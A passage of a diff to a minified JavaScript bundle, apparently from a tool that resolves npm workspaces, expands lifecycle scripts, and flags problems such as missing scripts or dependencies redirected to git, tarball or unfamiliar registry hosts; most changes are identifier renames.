-return n.replace(/[^/]*[*?[{].*$/s,"")}const fD=200,hD=1e3;function Rr(n){if(n.length>hD)return;let e=[n.replace(/\[(.)(?:-\1)?\]/gs,
+git"})}function lf(n){return n.length>200||n.split("**").length>2?!1:n==="."?!0:n.split("/").every(e=>/^(?!\.{1,2}$)[\w@.*-]+$/.
+test(e))}function eo(n,e,t={}){return to(n.split("/"),e.split("/"),t)}function to(n,e,t){const[s,...r]=n,[i,...o]=e;return s===
+void 0?t.partial||e.every(c=>c==="**"):i===void 0?!1:i!=="**"?df(s,i,t)&&to(r,o,t):to(n,o,t)?!0:df(s,"*",t)&&to(r,e,t)}function df(n,e,{
+dot:t=!1}){return n.startsWith(".")&&!e.startsWith(".")&&!t?!1:vE(n,e)}function rc(n){return/[*?[{]/.test(n)}function vD(n){
+return n.replace(/[^/]*[*?[{].*$/s,"")}const kD=200,DD=1e3;function Rr(n){if(n.length>DD)return;let e=[n.replace(/\[(.)(?:-\1)?\]/gs,
 "$1")];const t=[];for(;e.length>0;){const s=[];for(const r of e){const i=/\{([^{},]*(?:,[^{},]*)+)\}/.exec(r);if(i===null)
 t.push(r);else{const{0:o,1:c="",index:l}=i,[B,d]=[r.slice(0,l),r.slice(l+o.length)];s.push(...c.split(",").map(h=>`${B}${h}${d}`))}}
-if(s.length+t.length>fD)return;e=s}return t}const af=vr(async(n,e)=>{const t=(await Dn(n,e))?.workspaces??[],s=t.map(d=>Rr(
-d)?.map(h=>h.replace(/^\.?\/+/,"").replace(/\/$/,""))),r=d=>d?.every(rf)===!0,i=s.findIndex(d=>!r(d));if(i>=0)return{unclear:t[i]??
-""};const o=(d,h)=>g=>g?.some(C=>Xi(d,C,h))===!0,c=[];for(const{path:d,kind:h}of s.length===0?[]:n.files()){const g=cf(e,
+if(s.length+t.length>kD)return;e=s}return t}const Bf=vr(async(n,e)=>{const t=(await xn(n,e))?.workspaces??[],s=t.map(d=>Rr(
+d)?.map(h=>h.replace(/^\.?\/+/,"").replace(/\/$/,""))),r=d=>d?.every(lf)===!0,i=s.findIndex(d=>!r(d));if(i>=0)return{unclear:t[i]??
+""};const o=(d,h)=>g=>g?.some(C=>eo(d,C,h))===!0,c=[];for(const{path:d,kind:h}of s.length===0?[]:n.files()){const g=ff(e,
 d);if(g===void 0||(He.posix.basename(d)==="package.json"&&c.push(He.posix.dirname(g)),h!=="symlink"||!s.some(o(g,{partial:!0}))))
 continue;const C=Ot(n,d);if(C.kind==="outside"||C.kind==="inside"&&C.entry.kind==="directory")return{unclear:d}}const l=c.
 filter(d=>s.some(o(d))&&!d.split("/").includes("node_modules")).sort((d,h)=>d.localeCompare(h,"en")),B=s.flatMap(d=>l.filter(
-h=>o(h,{partial:!0})(d)));return pD(n,e,[...new Set(B)])});async function pD(n,e,t){const s=[],r=new Set;for(const i of t){
+h=>o(h,{partial:!0})(d)));return xD(n,e,[...new Set(B)])});async function xD(n,e,t){const s=[],r=new Set;for(const i of t){
 const o=He.posix.join(e,i).replace(/^\.$/,""),c=await $r(n,o);if(c===void 0)continue;if(c===Fn)return{broken:`${o}/packa\
-ge.json`};const l=c.name||mD(o);if(r.has(l))return{broken:c.path};r.add(l),s.push({directory:o,name:l})}return s}function mD(n){
-const e=He.posix.basename(He.posix.dirname(n)),t=He.posix.basename(n);return e.startsWith("@")?`${e}/${t}`:t}function cf(n,e){
-return n===""?e:e.startsWith(`${n}/`)?e.slice(n.length+1):void 0}function gD(n,e,{directory:t,project:s}){const r=cf(s,`${t}\
+ge.json`};const l=c.name||OD(o);if(r.has(l))return{broken:c.path};r.add(l),s.push({directory:o,name:l})}return s}function OD(n){
+const e=He.posix.basename(He.posix.dirname(n)),t=He.posix.basename(n);return e.startsWith("@")?`${e}/${t}`:t}function ff(n,e){
+return n===""?e:e.startsWith(`${n}/`)?e.slice(n.length+1):void 0}function AD(n,e,{directory:t,project:s}){const r=ff(s,`${t}\
 /`)!==void 0,i=He.posix.resolve("/",r?t:s,e),o=B=>He.posix.join("/",B.directory),c=B=>He.posix.dirname(o(B))===i;if(!(!(t===
-s&&!/^\.\/|\/\.[^/]*$/.test(e))&&n.some(c)))return n.filter(B=>B.name===e||o(B)===i||c(B))}const uf={script:"",passes:!1};
-async function CD(n,e,t){const{workspace:s,workspaces:r,includeRoot:i}=n,o=await yD(n,e,t);if("problems"in o)return o;const{
+s&&!/^\.\/|\/\.[^/]*$/.test(e))&&n.some(c)))return n.filter(B=>B.name===e||o(B)===i||c(B))}const hf={script:"",passes:!1};
+async function SD(n,e,t){const{workspace:s,workspaces:r,includeRoot:i}=n,o=await TD(n,e,t);if("problems"in o)return o;const{
 directory:c,implied:l}=o;if(r===!1&&s.length>0)return ze("flag-value",t,{program:"npm",flag:"--no-workspaces",fault:"npm\
  refuses it beside `--workspace`"});const B={project:c,directories:[c],selected:!1,missing:[]};if(r!==!0&&s.length===0&&
-l===void 0)return B;const d=await Dn(e.tree,c);if(d===void 0)return B;const h=await lf(c,e,t);if("problems"in h)return h;
+l===void 0)return B;const d=await xn(e.tree,c);if(d===void 0)return B;const h=await pf(c,e,t);if("problems"in h)return h;
 const g=new Map;i&&g.set(d.name,c);const C=[],y=s.length===0;for(const _ of h)y&&(l===void 0||_.directory===l)&&g.set(_.
-name,_.directory);for(const _ of s){const k={directory:e.directory,project:c},E=gD(h,_,k);if(E===void 0)return ze("targe\
-t-outside",t,{path:_,reason:"workspace"});E.length===0&&C.push(et("npm-script-missing",t,{...uf,workspace:_}));for(const x of E)
-g.set(x.name,x.directory)}return g.size===0?C.length>0?{targets:[],problems:C}:ze("npm-script-missing",t,{...uf,workspace:""}):
-{project:c,directories:[...g.values()],selected:!0,missing:C}}async function yD({prefix:n,workspaces:e},t,s){if(n!==void 0)
-return wD(n,t,s);const{tree:r,directory:i}=t,o=Nr(i),c=o.find(l=>df(r,l)||bD(r,l));if(c===void 0||!df(r,c))return ze("pa\
-ckage-json-missing",s,{directory:i});if(e===!1)return{directory:c};for(const l of o.slice(o.indexOf(c)+1)){const B=await lf(
-l,t,s);if("problems"in B)return B;if(B.some(d=>d.directory===c))return{directory:l,implied:c}}return{directory:c}}async function lf(n,{
-tree:e},t){const s=await af(e,n);return"unclear"in s?ze("target-outside",t,{path:s.unclear,reason:"workspace"}):"broken"in
-s?ze("package-json-invalid",t,{path:s.broken}):s}function wD(n,e,t){if(Bt(Ft(e,n))===void 0)return ht;const s=va(Ot(e.tree,
+name,_.directory);for(const _ of s){const k={directory:e.directory,project:c},E=AD(h,_,k);if(E===void 0)return ze("targe\
+t-outside",t,{path:_,reason:"workspace"});E.length===0&&C.push(et("npm-script-missing",t,{...hf,workspace:_}));for(const x of E)
+g.set(x.name,x.directory)}return g.size===0?C.length>0?{targets:[],problems:C}:ze("npm-script-missing",t,{...hf,workspace:""}):
+{project:c,directories:[...g.values()],selected:!0,missing:C}}async function TD({prefix:n,workspaces:e},t,s){if(n!==void 0)
+return ID(n,t,s);const{tree:r,directory:i}=t,o=Nr(i),c=o.find(l=>mf(r,l)||$D(r,l));if(c===void 0||!mf(r,c))return ze("pa\
+ckage-json-missing",s,{directory:i});if(e===!1)return{directory:c};for(const l of o.slice(o.indexOf(c)+1)){const B=await pf(
+l,t,s);if("problems"in B)return B;if(B.some(d=>d.directory===c))return{directory:l,implied:c}}return{directory:c}}async function pf(n,{
+tree:e},t){const s=await Bf(e,n);return"unclear"in s?ze("target-outside",t,{path:s.unclear,reason:"workspace"}):"broken"in
+s?ze("package-json-invalid",t,{path:s.broken}):s}function ID(n,e,t){if(Bt(Ft(e,n))===void 0)return ht;const s=ka(Ot(e.tree,
 Ft(e,n)),n,t);return"problems"in s?s:{directory:s.path}}function Nr(n){const e=n.split("/"),t=e.map((s,r)=>e.slice(0,e.length-
-r).join("/"));return n===""?t:[...t,""]}function df(n,e){return Ot(n,He.posix.join(e,"package.json")).kind!=="missing"}function bD(n,e){
-return Ot(n,He.posix.join(e,"node_modules")).kind==="inside"}const _D=new Set(["--usage","--version","--versions"]);function rc({
-flags:n}){const e=n.findLast(({name:r})=>r==="--prefix")?.value,t=to(n,"--workspaces"),s=to(n,"--ignore-scripts");return{
-informs:n.some(({name:r})=>_D.has(r)),...e===void 0?{}:{prefix:e},...t===void 0?{}:{workspaces:t},workspace:n.flatMap(({
-name:r,value:i})=>r==="--workspace"&&i?[i]:[]),includeRoot:to(n,"--include-workspace-root")===!0,...s===void 0?{}:{ignoreScripts:s},
-ifPresent:to(n,"--if-present")===!0}}function to(n,e){const t=n.findLast(s=>s.name===e);return t&&t.negated!==!0}const Bf={
-selected:!1,runs:[],packages:[],problems:[]};function ic({body:n,words:e}){return[n,...e.map(({text:t})=>Cf(t))].join(" ")}
-async function ff(n,e,t){const s=rc(n),r=mf(n);if(s.informs||r===void 0)return Bf;const i=y=>CD(s,y,t),o=await i(e);if("\
-problems"in o)return{...Bf,problems:o.problems};const{project:c,selected:l,directories:B}=o,d=s.ignoreScripts??await vD(
-{...e,directory:c}),h=[],g=[...o.missing,...await ED(o,e,t,i)];let C=!1;for(const y of B){const _=await $r(e.tree,y);if(_===
+r).join("/"));return n===""?t:[...t,""]}function mf(n,e){return Ot(n,He.posix.join(e,"package.json")).kind!=="missing"}function $D(n,e){
+return Ot(n,He.posix.join(e,"node_modules")).kind==="inside"}const RD=new Set(["--usage","--version","--versions"]);function ic({
+flags:n}){const e=n.findLast(({name:r})=>r==="--prefix")?.value,t=no(n,"--workspaces"),s=no(n,"--ignore-scripts");return{
+informs:n.some(({name:r})=>RD.has(r)),...e===void 0?{}:{prefix:e},...t===void 0?{}:{workspaces:t},workspace:n.flatMap(({
+name:r,value:i})=>r==="--workspace"&&i?[i]:[]),includeRoot:no(n,"--include-workspace-root")===!0,...s===void 0?{}:{ignoreScripts:s},
+ifPresent:no(n,"--if-present")===!0}}function no(n,e){const t=n.findLast(s=>s.name===e);return t&&t.negated!==!0}const gf={
+selected:!1,runs:[],packages:[],problems:[]};function oc({body:n,words:e}){return[n,...e.map(({text:t})=>Ef(t))].join(" ")}
+async function Cf(n,e,t){const s=ic(n),r=bf(n);if(s.informs||r===void 0)return gf;const i=y=>SD(s,y,t),o=await i(e);if("\
+problems"in o)return{...gf,problems:o.problems};const{project:c,selected:l,directories:B}=o,d=s.ignoreScripts??await FD(
+{...e,directory:c}),h=[],g=[...o.missing,...await ND(o,e,t,i)];let C=!1;for(const y of B){const _=await $r(e.tree,y);if(_===
 Fn){const k=He.posix.join(y,"package.json");g.push(...ze("package-json-invalid",t,{path:k}).problems)}else if(_===void 0)
 g.push(...ze("package-json-missing",t,{directory:y}).problems);else if(_.scripts.has(r)){const k={event:r,words:n.passthrough},
-E=gf(_,y,k,{ignoreScripts:d});h.push(...E),g.push(...hf(E,r,{...e,directory:y},t))}else C=!0}if(C){const y={script:r,passes:s.
+E=_f(_,y,k,{ignoreScripts:d});h.push(...E),g.push(...yf(E,r,{...e,directory:y},t))}else C=!0}if(C){const y={script:r,passes:s.
 ifPresent},_=s.ifPresent&&h.length===0&&e.via===void 0,k=r==="start"||_;g.push(et("npm-script-missing",t,y,k?"error":void 0))}
-return{project:c,selected:l,runs:h,packages:B,problems:g}}async function ED({project:n,directories:e},{base:t,...s},r,i){
+return{project:c,selected:l,runs:h,packages:B,problems:g}}async function ND({project:n,directories:e},{base:t,...s},r,i){
 const o=He.posix.join(n,"package.json");if(t===void 0||!s.changed.has(o))return[];const c=await i({...s,tree:t});if("pro\
 blems"in c)return[];const l=c.directories.filter(B=>!e.includes(B));return l.length===0?[]:[et("workspaces-changed",r,{path:o,
-lost:l})]}function hf(n,e,{via:t,directory:s},r){if(n.some(({event:o,body:c})=>o===e&&!pf(c)))return[];const i={script:e,
-path:He.posix.join(s,"package.json")};return[et("npm-script-empty",r,i,t===void 0?"error":"warning")]}function pf(n){return n.
+lost:l})]}function yf(n,e,{via:t,directory:s},r){if(n.some(({event:o,body:c})=>o===e&&!wf(c)))return[];const i={script:e,
+path:He.posix.join(s,"package.json")};return[et("npm-script-empty",r,i,t===void 0?"error":"warning")]}function wf(n){return n.
 split(`
-`).every(e=>/^\s*(?:#|$)/.test(e))}async function vD(n){const e=await Ys(n);return"settings"in e&&e.settings["ignore-scr\
-ipts"]===!0}function mf({subcommand:n,operands:e}){switch(n){case"run":return e[0]?.text;case"test":case"start":case"sto\
-p":return n;default:return}}function gf({scripts:n},e,{event:t,words:s},{ignoreScripts:r}={}){return(r?[t]:[`pre${t}`,t,
-`post${t}`]).flatMap(o=>{const c=n.get(o);return c?[{directory:e,event:o,body:c,words:o===t?s:[]}]:[]})}const kD=/[\t\n\r "#$&'()*;<>?\\`|~]/;
-function Cf(n){return n===""?"''":kD.test(n)?`'${n.replaceAll("'","'\\''")}'`.replace(/^(?:'')+(?!$)/,"").replaceAll("\\'\
-''","\\'"):n}const yf={start:0,end:0},DD=200;function wf({steps:n}){return n.flatMap(e=>e.command?.nested?wf(e.command.nested):
-[e])}async function bf(n,e,t={left:DD}){const{subcommand:s,flags:r}=n;if(s===void 0)return;const{project:i,selected:o,runs:c,
-packages:l}=await ff(n,e,yf);if(i===void 0)return;const B=await Ys({...e,directory:i}),d=await _f(e,i);if("unread"in B||
-d===void 0)return;const{settings:h}=B,g=ND.some(E=>E in h);if(d.devEngines!==void 0||g)return;const C=[],y=FD(r,h);for(const E of l){
-const x=await _f(e,E);if(x===void 0||xD(x))return;const D=c.filter(z=>z.directory===E),P=D.length===0?await TD(n,e,E):void 0;
-P!==void 0&&C.push({...Ef(x),...P,directory:E});for(const z of D){const L=await OD(z,e,y,t);C.push({...Ef(x),...L})}}const _=h["\
-node-options"],{prefix:k}=rc(n);return{subcommand:s,directory:e.directory,project:i,prefixed:k!==void 0,inWorkspaces:o,config:y,
-...typeof _=="string"&&{nodeOptions:_},steps:C}}async function _f({tree:n},e){const t=await Ir(n,Ft({directory:e},"packa\
-ge.json"));return t===void 0||t===Fn?void 0:rn(t)}function xD({bin:n,directories:e}){return!n&&"bin"in rn(e)}function Ef(n){
-const{name:e,version:t}=n;return{packageId:e&&t?`${String(e)}@${String(t)}`:"",packageEnv:PD(n)}}async function OD(n,e,t,s){
-const{directory:r,event:i,body:o}=n,c=ic(n),l={...e,directory:r},B=$D(c),d=await SD(B,l,{config:t,budget:s}),h=n.words.map(
-C=>C.text),g=B&&{...B,...d&&{nested:d}};return{directory:r,event:i,body:o,words:h,text:c,...g&&{command:g}}}const AD=new Set(
-["--if-present","--include-workspace-root","--workspace","--workspaces"]);async function SD(n,e,{config:t,budget:s}){if(!(n?.
+`).every(e=>/^\s*(?:#|$)/.test(e))}async function FD(n){const e=await Ys(n);return"settings"in e&&e.settings["ignore-scr\
+ipts"]===!0}function bf({subcommand:n,operands:e}){switch(n){case"run":return e[0]?.text;case"test":case"start":case"sto\
+p":return n;default:return}}function _f({scripts:n},e,{event:t,words:s},{ignoreScripts:r}={}){return(r?[t]:[`pre${t}`,t,
+`post${t}`]).flatMap(o=>{const c=n.get(o);return c?[{directory:e,event:o,body:c,words:o===t?s:[]}]:[]})}const PD=/[\t\n\r "#$&'()*;<>?\\`|~]/;
+function Ef(n){return n===""?"''":PD.test(n)?`'${n.replaceAll("'","'\\''")}'`.replace(/^(?:'')+(?!$)/,"").replaceAll("\\'\
+''","\\'"):n}const vf={start:0,end:0},LD=200;function kf({steps:n}){return n.flatMap(e=>e.command?.nested?kf(e.command.nested):
+[e])}async function Df(n,e,t={left:LD}){const{subcommand:s,flags:r}=n;if(s===void 0)return;const{project:i,selected:o,runs:c,
+packages:l}=await Cf(n,e,vf);if(i===void 0)return;const B=await Ys({...e,directory:i}),d=await xf(e,i);if("unread"in B||
+d===void 0)return;const{settings:h}=B,g=WD.some(E=>E in h);if(d.devEngines!==void 0||g)return;const C=[],y=KD(r,h);for(const E of l){
+const x=await xf(e,E);if(x===void 0||jD(x))return;const D=c.filter(z=>z.directory===E),P=D.length===0?await zD(n,e,E):void 0;
+P!==void 0&&C.push({...Of(x),...P,directory:E});for(const z of D){const L=await MD(z,e,y,t);C.push({...Of(x),...L})}}const _=h["\
+node-options"],{prefix:k}=ic(n);return{subcommand:s,directory:e.directory,project:i,prefixed:k!==void 0,inWorkspaces:o,config:y,
+...typeof _=="string"&&{nodeOptions:_},steps:C}}async function xf({tree:n},e){const t=await Ir(n,Ft({directory:e},"packa\
+ge.json"));return t===void 0||t===Fn?void 0:rn(t)}function jD({bin:n,directories:e}){return!n&&"bin"in rn(e)}function Of(n){
+const{name:e,version:t}=n;return{packageId:e&&t?`${String(e)}@${String(t)}`:"",packageEnv:qD(n)}}async function MD(n,e,t,s){
+const{directory:r,event:i,body:o}=n,c=oc(n),l={...e,directory:r},B=JD(c),d=await HD(B,l,{config:t,budget:s}),h=n.words.map(
+C=>C.text),g=B&&{...B,...d&&{nested:d}};return{directory:r,event:i,body:o,words:h,text:c,...g&&{command:g}}}const GD=new Set(
+["--if-present","--include-workspace-root","--workspace","--workspaces"]);async function HD(n,e,{config:t,budget:s}){if(!(n?.
 argv[0]==="npm"&&Object.keys(n.env).length===0)||t.npm_config_ignore_scripts==="true"||(s.left-=1,s.left<0))return;const i=n.
-argv.slice(1).map(B=>({text:B,span:yf,quoted:!0})),{invocation:o,problems:c}=IB(i),l=o.flags.every(({name:B})=>AD.has(B));
-if(!(c.length>0||!l))return bf(o,e,s)}async function TD(n,{tree:e},t){const s=mf(n),r=(await Dn(e,t))?.scripts.has(s??"");
-if(!(s===void 0||r||rc(n).ifPresent))return{event:s,words:[],text:""}}function ID(n){return yB(n)||gB(n)||n==="nohup"}function $D(n){
+argv.slice(1).map(B=>({text:B,span:vf,quoted:!0})),{invocation:o,problems:c}=PB(i),l=o.flags.every(({name:B})=>GD.has(B));
+if(!(c.length>0||!l))return Df(o,e,s)}async function zD(n,{tree:e},t){const s=bf(n),r=(await xn(e,t))?.scripts.has(s??"");
+if(!(s===void 0||r||ic(n).ifPresent))return{event:s,words:[],text:""}}function UD(n){return vB(n)||_B(n)||n==="nohup"}function JD(n){
 const{words:e,assignments:t,refused:s,problems:r}=qn(n),i=r.every(({rule:d,severity:h})=>d==="assignment-refused"||h==="\
 warning"&&d!=="unquoted-glob"),o=r.filter(({rule:d})=>d==="assignment-refused").length,[c]=e;if(!i||o!==s.length||c===void 0||
-ID(c.text)||c.text.includes("="))return;const l=[...t,...s].sort((d,h)=>d.span.start-h.span.start);if(l.some(({name:d})=>d===
-"PATH"))return;const B=Object.fromEntries(l.map(({name:d,value:h})=>[d,h]));return{argv:e.map(d=>d.text),env:B}}const RD=new Set(
+UD(c.text)||c.text.includes("="))return;const l=[...t,...s].sort((d,h)=>d.span.start-h.span.start);if(l.some(({name:d})=>d===
+"PATH"))return;const B=Object.fromEntries(l.map(({name:d,value:h})=>[d,h]));return{argv:e.map(d=>d.text),env:B}}const ZD=new Set(
 `browser cache cache-max cache-min fetch-retries if-present include-workspace-root init.author.email
   init.author.name init.author.url init.license init.version legacy-bundling min-release-age offline
-  prefix update-notifier workspace workspaces`.split(/\s+/)),ND=["also","dev","include","omit","only","optional","produc\
-tion"];function FD(n,e){const t=Object.entries(e).filter(([i,o])=>["harmless","honoured"].includes(Aa(i,o))),s=n.map(({name:i,
-value:o,negated:c})=>[i.slice(2),o??c!==!0]),r=[...t,...s].filter(([i])=>!RD.has(i));return Object.fromEntries(r.map(([i,
-o])=>[`npm_config_${i.replaceAll("-","_").toLowerCase()}`,vf(o)]))}function vf(n){return Array.isArray(n)?n.map(vf).join(
+  prefix update-notifier workspace workspaces`.split(/\s+/)),WD=["also","dev","include","omit","only","optional","produc\
+tion"];function KD(n,e){const t=Object.entries(e).filter(([i,o])=>["harmless","honoured"].includes(Sa(i,o))),s=n.map(({name:i,
+value:o,negated:c})=>[i.slice(2),o??c!==!0]),r=[...t,...s].filter(([i])=>!ZD.has(i));return Object.fromEntries(r.map(([i,
+o])=>[`npm_config_${i.replaceAll("-","_").toLowerCase()}`,Af(o)]))}function Af(n){return Array.isArray(n)?n.map(Af).join(
 `
 
-`):n==null||n===!1?"":String(n).trim()}function PD(n){const{name:e,version:t,config:s,engines:r,bin:i}=n,o={};return oc(
-{name:e,version:t,config:s,engines:r,bin:LD(i,e)},"npm_package_",o),Object.fromEntries(Object.entries(o).filter(([c])=>/^[A-Za-z_]\w*$/.
-test(c)))}function oc(n,e,t){for(const[s,r]of Object.entries(n))if(r!==void 0)if(r===null||r===!1)t[`${e}${s}`]="";else if(Array.
-isArray(r))for(const[i,o]of r.entries())oc({[`${s}_${i}`]:o},e,t);else typeof r=="object"?oc(r,`${e}${s}_`,t):t[`${e}${s}`]=
-String(r)}function LD(n,e){const r=Object.entries(Ki(n,typeof e=="string"?e:"")??{}).map(([i,o])=>[He.posix.basename(kf(
-i)),kf(o)]).filter(([i,o])=>i&&o);return r.length>0?Object.fromEntries(r):void 0}function kf(n){return He.posix.join("/",
-n.replaceAll("\\","/")).slice(1)}async function jD(n,e){const{invocation:t,argv:s,targets:r}=n,{tree:i,cwd:o="",changed:c=new Set,
-programs:l=Or}=e,B=t?.program==="npm"||t?.program==="npx";if(i===void 0||s===null||t===void 0||!B)return n;const h=await bf(
-t,{tree:i,directory:o,changed:c,families:l}),g=r.some(({kind:_,via:k})=>_==="package_binary"&&k===void 0),y=(h?wf(h).some(
-({text:_})=>MD.test(_)):!g)?await nE(i,c):[];return{...n,...h&&{scripts:h},...y.length>0&&{npmSettings:y}}}const MD=/(?:^|[^\w.-])np[mx](?![\w.-])/,
-GD=/^(?:a|all|and|are|as|be|by|can|contains?|does|each|ensures?|every|exists?|has|have|is|it|loads|must|no|not|of|passes|returns?|should|that|the|this|to|verify|when|with|without)$/i,
-HD=/^(?:assert|check|compile|confirm|ensure|execute|expect|human|inspect|manual|manually|observe|review|run|validate|verify|visual)$/i,
-zD=/\.(?:md|txt|json|ya?ml|[cm]?[jt]s|py|html|css)$/i,UD=/^[A-Za-z][a-z']*[:,]?$/,JD=/^(?:[A-Za-z_][\w .-]*?[ \t]*(?:[<>=!]=?|[≥≤≠:])[ \t]*)?[+-]?\d+(?:\.\d+)?[ \t]*(?:%|\/[ \t]*\d+)?$/,
-ZD=/^(?:[a-z][a-z0-9]*(?:_[a-z0-9]+)+|[A-Z][A-Z_]+)$/,WD=/[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Arabic}\p{Script=Devanagari}]/u;
-function KD(n){const e=n.trim(),[t="",...s]=e.split(/\s+/,100);if(t===t.toLowerCase()&&Lt(t)!==void 0)return!1;if(JD.test(
-e)||ZD.test(e)||WD.test(t))return!0;if(/[;&|<>$`]/.test(e))return!1;const r=UD.test(t);if(s.some(o=>/^--?[A-Za-z]/.test(
-o)))return!1;if((r||zD.test(t))&&s.some(o=>GD.test(qD(o))))return!0;if(/^[A-Z][a-z]+[:,.!]?$/.test(t))return s.length>0||
-/[.!:]$/.test(t);const i=/^[A-Za-z][A-Za-z']*[.,:!?]?$/.test(s[0]??"");return r&&i&&(HD.test(t)||/[a-z]{2}[.!?]$/.test(e))}
-function qD(n){return n.replace(/[.,;:!?]$/,"")}function PN({targets:n}){return n.flatMap(({kind:e,path:t,parsed:s})=>e===
-"file"&&t&&!s?[t]:[])}async function YD(n,e,t,s){if(n===e)return[];const[{npm:r},{npm:i}]=await Promise.all([xn(n),xn(e)]),
-o=i?.packages.get(t),c={name:t,tree:n,base:e,before:[...o?[o]:[],...await Af(e,t)],hosts:await i0(e),configured:await o0(
-n,t)},l=await t0(c),B=r?.packages.get(t),h=B?VD(B,c):r?void 0:ac({name:t,version:"",source:{kind:"registry"}},c);return h&&
-l.push({name:t,path:r?.path??".npmrc",...h}),l.map(g=>et("dependency-redirected",s,g))}function VD(n,e){const{tree:t,base:s}=e,
-r=e.before.find(o=>Of(o,n));return r?.version===n.version&&e0(r,n)||XD(n,t,s)?{how:"integrity",to:n.integrity??"nothing"}:
-r?ac(n,e):Df(n,e)}function Df(n,e){const{source:t}=n;if(t.kind==="git"||t.kind==="tarball")return{how:t.kind,to:t.at};if(t.
-kind==="file"){const s=e.before.some(r=>r.source.kind!=="file");return QD(n,e.tree)&&!s?void 0:{how:"file",to:t.at}}return n.
-name!==e.name?{how:"alias",to:n.name}:ac(n,e)}function ac({source:n},{hosts:e,configured:t}){if(n.kind!=="registry")return;
-const s=r0(n,t);return e.has(s)?void 0:{how:"host",to:s}}function xf({source:n}){if(n.kind==="file")return Bt(n.at.replace(
-/#.*$|::.*$/s,""))||void 0}function QD(n,e){const t=xf(n),s=t===void 0?void 0:Ot(e,t);return s?.kind==="inside"&&s.entry.
-kind==="directory"}function XD(n,e,t){const s=xf(n);if(s===void 0)return!1;const[r,i]=[e,t].map(c=>Ot(c,s));return!(r?.kind===
-"inside"&&Wt(r.entry.kind))||i?.kind!=="inside"?!1:r.entry.oid!==i.entry.oid||r.entry.size!==i.entry.size}function Of(n,e){
-return n.name===e.name&&n.source.kind===e.source.kind&&Sf(n)===Sf(e)}function e0({integrity:n,source:e},{integrity:t}){if(n===
+`):n==null||n===!1?"":String(n).trim()}function qD(n){const{name:e,version:t,config:s,engines:r,bin:i}=n,o={};return ac(
+{name:e,version:t,config:s,engines:r,bin:YD(i,e)},"npm_package_",o),Object.fromEntries(Object.entries(o).filter(([c])=>/^[A-Za-z_]\w*$/.
+test(c)))}function ac(n,e,t){for(const[s,r]of Object.entries(n))if(r!==void 0)if(r===null||r===!1)t[`${e}${s}`]="";else if(Array.
+isArray(r))for(const[i,o]of r.entries())ac({[`${s}_${i}`]:o},e,t);else typeof r=="object"?ac(r,`${e}${s}_`,t):t[`${e}${s}`]=
+String(r)}function YD(n,e){const r=Object.entries(qi(n,typeof e=="string"?e:"")??{}).map(([i,o])=>[He.posix.basename(Sf(
+i)),Sf(o)]).filter(([i,o])=>i&&o);return r.length>0?Object.fromEntries(r):void 0}function Sf(n){return He.posix.join("/",
+n.replaceAll("\\","/")).slice(1)}async function VD(n,e){const{invocation:t,argv:s,targets:r}=n,{tree:i,cwd:o="",changed:c=new Set,
+programs:l=Or}=e,B=t?.program==="npm"||t?.program==="npx";if(i===void 0||s===null||t===void 0||!B)return n;const h=await Df(
+t,{tree:i,directory:o,changed:c,families:l}),g=r.some(({kind:_,via:k})=>_==="package_binary"&&k===void 0),y=(h?kf(h).some(
+({text:_})=>QD.test(_)):!g)?await hE(i,c):[];return{...n,...h&&{scripts:h},...y.length>0&&{npmSettings:y}}}const QD=/(?:^|[^\w.-])np[mx](?![\w.-])/,
+XD=/^(?:a|all|and|are|as|be|by|can|contains?|does|each|ensures?|every|exists?|has|have|is|it|loads|must|no|not|of|passes|returns?|should|that|the|this|to|verify|when|with|without)$/i,
+e0=/^(?:assert|check|compile|confirm|ensure|execute|expect|human|inspect|manual|manually|observe|review|run|validate|verify|visual)$/i,
+t0=/\.(?:md|txt|json|ya?ml|[cm]?[jt]s|py|html|css)$/i,n0=/^[A-Za-z][a-z']*[:,]?$/,s0=/^(?:[A-Za-z_][\w .-]*?[ \t]*(?:[<>=!]=?|[≥≤≠:])[ \t]*)?[+-]?\d+(?:\.\d+)?[ \t]*(?:%|\/[ \t]*\d+)?$/,
+r0=/^(?:[a-z][a-z0-9]*(?:_[a-z0-9]+)+|[A-Z][A-Z_]+)$/,i0=/[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Arabic}\p{Script=Devanagari}]/u;
+function o0(n){const e=n.trim(),[t="",...s]=e.split(/\s+/,100);if(t===t.toLowerCase()&&Lt(t)!==void 0)return!1;if(s0.test(
+e)||r0.test(e)||i0.test(t))return!0;if(/[;&|<>$`]/.test(e))return!1;const r=n0.test(t);if(s.some(o=>/^--?[A-Za-z]/.test(
+o)))return!1;if((r||t0.test(t))&&s.some(o=>XD.test(a0(o))))return!0;if(/^[A-Z][a-z]+[:,.!]?$/.test(t))return s.length>0||
+/[.!:]$/.test(t);const i=/^[A-Za-z][A-Za-z']*[.,:!?]?$/.test(s[0]??"");return r&&i&&(e0.test(t)||/[a-z]{2}[.!?]$/.test(e))}
+function a0(n){return n.replace(/[.,;:!?]$/,"")}function qN({targets:n}){return n.flatMap(({kind:e,path:t,parsed:s})=>e===
+"file"&&t&&!s?[t]:[])}async function c0(n,e,t,s){if(n===e)return[];const[{npm:r},{npm:i}]=await Promise.all([On(n),On(e)]),
+o=i?.packages.get(t),c={name:t,tree:n,base:e,before:[...o?[o]:[],...await Rf(e,t)],hosts:await g0(e),configured:await C0(
+n,t)},l=await f0(c),B=r?.packages.get(t),h=B?u0(B,c):r?void 0:cc({name:t,version:"",source:{kind:"registry"}},c);return h&&
+l.push({name:t,path:r?.path??".npmrc",...h}),l.map(g=>et("dependency-redirected",s,g))}function u0(n,e){const{tree:t,base:s}=e,
+r=e.before.find(o=>$f(o,n));return r?.version===n.version&&B0(r,n)||d0(n,t,s)?{how:"integrity",to:n.integrity??"nothing"}:
+r?cc(n,e):Tf(n,e)}function Tf(n,e){const{source:t}=n;if(t.kind==="git"||t.kind==="tarball")return{how:t.kind,to:t.at};if(t.
+kind==="file"){const s=e.before.some(r=>r.source.kind!=="file");return l0(n,e.tree)&&!s?void 0:{how:"file",to:t.at}}return n.
+name!==e.name?{how:"alias",to:n.name}:cc(n,e)}function cc({source:n},{hosts:e,configured:t}){if(n.kind!=="registry")return;
+const s=m0(n,t);return e.has(s)?void 0:{how:"host",to:s}}function If({source:n}){if(n.kind==="file")return Bt(n.at.replace(
+/#.*$|::.*$/s,""))||void 0}function l0(n,e){const t=If(n),s=t===void 0?void 0:Ot(e,t);return s?.kind==="inside"&&s.entry.
